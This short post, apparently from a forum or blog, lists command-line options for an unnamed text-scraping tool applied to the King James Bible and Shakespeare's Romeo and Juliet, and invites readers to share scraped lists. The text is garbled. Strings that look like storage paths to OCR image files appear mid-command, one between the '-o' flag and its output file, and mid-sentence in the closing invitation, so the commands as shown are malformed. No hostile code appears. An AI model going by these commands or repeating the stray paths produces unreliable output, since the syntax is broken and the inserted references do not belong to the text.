Holy Bible King James Version of 1611: -f HolyBibleDocx.docx -si -min 6 -max 12 -oHolyBible_scraped.txt

Shakespeare's Romeo and Juliet: -u -si -min 6 -max 12 -o romeo_juliet_scraped.txt

Feel free to share your scraped listsor ideas on useful content to scrape. Comments and suggestions welcome, enjoy!